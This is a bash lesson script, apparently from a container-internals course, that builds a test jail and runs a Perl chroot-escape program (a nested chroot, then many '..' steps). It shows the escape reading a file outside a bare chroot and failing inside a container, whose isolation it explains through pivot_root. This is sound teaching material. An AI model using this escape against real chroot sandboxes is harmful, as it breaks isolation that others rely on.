#!/bin/bash
# 03-root.sh: a root of one's own, and how one gets out of a bare chroot
. "$(dirname "$0")/lesson.sh"
question <<'END'
chroot(2) makes a directory the root of a process: its absolute paths begin there, `..` ends there.
With CAP_SYS_CHROOT one gets out all the same. How? And why not out of a container, which has it too?
END
busybox_tree jail
echo 'read outside of it' >secret
cat >escape.pl <<'END'
if (@ARGV) { chroot $ARGV[0] or die "chroot: $!"; chdir "/" }   # into the jail, if one is named
$before = (stat "/")[1];
mkdir "sub"; chroot "sub" or die "chroot: $!"; # the root goes down, the working directory stays above
chdir "../../../../../../../../..";            # so `..` never meets the root, and goes up to the top
chroot ".";
print "/ was inode $before, is inode ", (stat "/")[1], "; ", open(F, $ENV{SECRET}) ? <F> : "no secret: $!\n";
END
show cat escape.pl
export SECRET=$PWD/secret
volumes=(-v ./escape.pl:/escape.pl:ro)
for dir in /usr /lib /lib64; do [[ ! -d $dir ]] || volumes+=(-v "$dir:$dir:ro"); done # perl's own
trace chroot,chdir 'chroot|chdir' perl escape.pl jail
bare=$shown
trace mount,pivot_root,umount2,chroot,chdir '"overlay"|pivot_root|umount2|chroot|chdir\("\.\.' \
    mydocker run --rm --network none -e SECRET "${volumes[@]}" busybox /usr/bin/perl /escape.pl
answer <<'END'
Looking up a path the kernel stops at `..` only where it stands on the process's own root,
path_resolution(7). chroot(2) moves that root, not the working directory: after the second one the
directory is above the root, `..` never meets it, and ends at the machine's real root alone.
The engine makes its overlay the root of the whole mount namespace with pivot_root(2), and then takes
the machine's tree off it with umount2(2). Nothing is above that root: `..` ends there in any case.
END
check 'out of the bare chroot: the secret is read' grep -q '; read outside of it' <<<"$bare"
check 'not out of the container: no secret' grep -q '; no secret: No such file' <<<"$shown"
check 'its / is the one it was' grep -qE '/ was inode ([0-9]+), is inode \1;' <<<"$shown"
now_you <<'END'
TRY=1 scripts/lessons/03-root.sh opens a shell here. SECRET=$PWD/secret perl escape.pl jail
Put chdir "/" behind chroot "sub": how far does it get? (chroot(1) does that for you. Is it a wall now?)
END
